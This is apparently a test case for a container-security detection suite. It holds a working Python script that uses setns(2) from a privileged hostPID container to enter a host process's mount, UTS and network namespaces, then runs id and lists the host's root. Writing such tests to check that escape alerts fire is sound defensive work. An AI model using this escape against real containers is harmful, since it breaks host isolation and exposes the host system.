# category: container-escape
# technique: T1611
# art: no
# expect: host-namespace-entry namespace-change-in-container
# image: debian
# opts: --hostpid --privileged
# setup: hostproc
# desc: a privileged hostPID container joins a host process's mount, UTS and network namespaces with setns(2) from python (no nsenter binary), then looks around the host
python3 - "$TARGET" <<'PY'
import ctypes, os, socket, sys
pid = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
print("container hostname:", socket.gethostname())
for ns in ("uts", "net", "mnt"):
    fd = os.open(f"/proc/{pid}/ns/{ns}", os.O_RDONLY)
    if libc.setns(fd, 0) != 0:
        print(f"setns {ns} refused:", os.strerror(ctypes.get_errno()))
    os.close(fd)
os.chdir("/")
print("host hostname:", socket.gethostname())
print("host interfaces:", len(socket.if_nameindex()))
sys.stdout.flush()
os.execv("/bin/sh", ["sh", "-c", "id; ls / >/dev/null && echo listed the host root"])
PY
